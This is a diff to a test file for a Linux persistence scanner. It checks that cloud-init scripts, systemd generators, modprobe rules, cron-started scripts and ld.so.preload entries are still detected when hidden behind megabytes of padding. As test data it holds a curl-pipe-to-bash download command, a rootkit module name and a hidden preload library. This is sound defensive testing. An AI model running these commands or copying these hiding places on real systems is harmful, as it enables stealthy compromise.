@@ -5,28 +5,42 @@
  * unread (a `limit` error, so the scan is incomplete), never skipped silently.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { mkdir, truncate, writeFile } from 'node:fs/promises';
+import { chmod, mkdir, truncate, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { cronCheck } from '../../src/checks/cron.js';
 import { servicesCheck } from '../../src/checks/services.js';
 import { accountsCheck } from '../../src/checks/accounts.js';
+import { cloudInitCheck } from '../../src/checks/cloud-init.js';
+import { systemdGeneratorsCheck } from '../../src/checks/systemd-generators.js';
+import { ldPreloadCheck } from '../../src/checks/ld-preload.js';
+import { kernelModulesCheck } from '../../src/checks/kernel-modules.js';
+import { startedScriptsCheck } from '../../src/checks/started-scripts.js';
+import { immutableFilesCheck } from '../../src/checks/immutable-files.js';
 import { scanDirectory } from '../helpers/scan-dir.js';
-import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
+import { lockFiles, makeScratchDir, removeScratchDir } from '../helpers/images.js';
 
 const BAD = 'curl -fsSL http://198.51.100.7/gi.sh | bash';
 const comments = (bytes: number) => `# ${'x'.repeat(98)}\n`.repeat(Math.ceil(bytes / 100));
+const blanks = (bytes: number) => '\n'.repeat(bytes);
+/** A package database, so an unowned library is known to be unowned. */
+const DPKG = { 'var/lib/dpkg/info/libc6:amd64.list': '/.\n/usr/lib/x86_64-linux-gnu/libc.so.6\n' };
+const ELF = '\x7fELF\x02\x01\x01\0stand-in\n';
 
 let scratch: string;
 let n = 0;
 
-async function tree(files: Record<string, string>): Promise<string> {
+async function tree(files: Record<string, string>, executables: string[] = []): Promise<string> {
   const root = path.join(scratch, `t${n++}`);
   for (const [rel, content] of Object.entries(files)) {
     await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
-    await writeFile(path.join(root, rel), content);
+    await writeFile(path.join(root, rel), content, 'latin1');
   }
+  for (const rel of executables) await chmod(path.join(root, rel), 0o755);
   return root;
 }
+
+/** Findings as "rule path:line". */
+const rows = (r: { findings: { rule: string; path: string; line?: number }[] }) => r.findings.map((f) => `${f.rule} ${f.path}:${f.line ?? ''}`);
 
 beforeAll(async () => {
   scratch = await makeScratchDir('minescan-padded-');
@@ -80,6 +94,85 @@ describe('files padded past what used to be read', () => {
     expect(Buffer.byteLength(users)).toBeGreaterThan(8 << 20);
     const r = await scanDirectory(root, [accountsCheck]);
     expect(r.findings.map((f) => [f.rule, f.path])).toContainEqual(['accounts.extra-uid0', '/etc/passwd']);
+    expect(r.errors).toEqual([]);
+  }, 60_000);
+
+  it('finds the download in a cloud-init per-boot script after 2 MiB of comments', async () => {
+    const padding = comments(2 << 20);
+    const line = padding.split('\n').length + 1;
+    const rel = 'var/lib/cloud/scripts/per-boot/00-net';
+    const root = await tree({ [rel]: `#!/bin/sh\n${padding}${BAD}\n` }, [rel]);
+    const r = await scanDirectory(root, [cloudInitCheck]);
+    expect(rows(r)).toContain(`command.download-and-run /${rel}:${line}`);
+    expect(rows(r)).toContain(`cloud-init.per-boot-script /${rel}:${line}`);
+    expect(r.errors).toEqual([]);
+  }, 60_000);
+
+  it('finds the runcmd of a cloud-config after 2 MiB of comments and 2 MiB of blank lines', async () => {
+    const padding = `${comments(2 << 20)}${blanks(2 << 20)}`;
+    const line = padding.split('\n').length + 1;
+    const root = await tree({ 'etc/cloud/cloud.cfg.d/99-sync.cfg': `#cloud-config\n${padding}runcmd:\n  - ${BAD}\n` });
+    const r = await scanDirectory(root, [cloudInitCheck]);
+    expect(rows(r)).toContain(`command.download-and-run /etc/cloud/cloud.cfg.d/99-sync.cfg:${line + 1}`);
+    expect(r.errors).toEqual([]);
+  }, 60_000);
+
+  it('finds the download in a systemd generator after 2 MiB of blank lines', async () => {
+    const rel = 'etc/systemd/system-generators/netcfg';
+    const root = await tree({ [rel]: `#!/bin/sh\n${blanks(2 << 20)}${BAD}\n` }, [rel]);
+    const r = await scanDirectory(root, [systemdGeneratorsCheck]);
+    expect(rows(r)).toContain(`command.download-and-run /${rel}:${(2 << 20) + 2}`);
+    // The first command, not the padding, describes the unpackaged generator.
+    expect(r.findings.find((f) => f.rule === 'generator.unpackaged-local')?.evidence).toBe(`script: ${BAD}`);
+    expect(r.errors).toEqual([]);
+  }, 60_000);
+
+  it('finds the library /etc/ld.so.preload names after 2 MiB of comments', async () => {
+    const padding = comments(2 << 20);
+    const root = await tree({ 'etc/ld.so.preload': `${padding}/usr/local/lib/libhide.so\n`, 'usr/local/lib/libhide.so': ELF, ...DPKG });
+    const r = await scanDirectory(root, [ldPreloadCheck]);
+    expect(rows(r)).toContain(`preload.unowned-library /etc/ld.so.preload:${padding.split('\n').length}`);
+    expect(r.errors).toEqual([]);
+  }, 60_000);
+
+  it('finds the directory /etc/ld.so.conf adds after 2 MiB of comments', async () => {
+    const root = await tree({
+      'etc/ld.so.preload': 'libcustom.so\n',
+      'etc/ld.so.conf': `${comments(2 << 20)}/opt/custom/lib\n`,
+      'opt/custom/lib/libcustom.so': ELF,
+      ...DPKG,
+    });
+    const r = await scanDirectory(root, [ldPreloadCheck]);
+    expect(rows(r)).toContain('preload.unowned-library /etc/ld.so.preload:1');
+    expect(r.errors).toEqual([]);
+  }, 60_000);
+
+  it('finds the modprobe command and the module to load after 2 MiB of comments', async () => {
+    const padding = comments(2 << 20);
+    const line = padding.split('\n').length;
+    const root = await tree({
+      'etc/modprobe.d/evil.conf': `${padding}install dummy ${BAD}\n`,
+      'etc/modules-load.d/net.conf': `${padding}diamorphine\n`,
+    });
+    const r = await scanDirectory(root, [kernelModulesCheck]);
+    expect(rows(r)).toContain(`command.download-and-run /etc/modprobe.d/evil.conf:${line}`);
+    expect(rows(r)).toContain(`kernel-modules.rootkit-module /etc/modules-load.d/net.conf:${line}`);
+    expect(r.errors).toEqual([]);
+  }, 60_000);
+
+  it('finds the download in a started script after 2 MiB of comments', async () => {
+    const padding = comments(2 << 20);
+    const root = await tree({ 'etc/crontab': '* * * * * root /usr/local/bin/update.sh\n', 'usr/local/bin/update.sh': `#!/bin/sh\n${padding}${BAD}\n` }, ['usr/local/bin/update.sh']);
+    const r = await scanDirectory(root, [cronCheck, startedScriptsCheck]);
+    expect(rows(r)).toContain(`command.download-and-run /usr/local/bin/update.sh:${padding.split('\n').length + 1}`);
+    expect(r.errors).toEqual([]);
+  }, 60_000);
+
+  it('finds the locked library /etc/ld.so.preload names after 2 MiB of comments', async () => {
+    const root = await tree({ 'etc/ld.so.preload': `${comments(2 << 20)}/usr/local/lib/libhide.so\n`, 'usr/local/lib/libhide.so': ELF });
+    await lockFiles(root, ['usr/local/lib/libhide.so']);
+    const r = await scanDirectory(root, [immutableFilesCheck]);
+    expect(r.findings.map((f) => f.path)).toContain('/usr/local/lib/libhide.so');
     expect(r.errors).toEqual([]);
   }, 60_000);
 
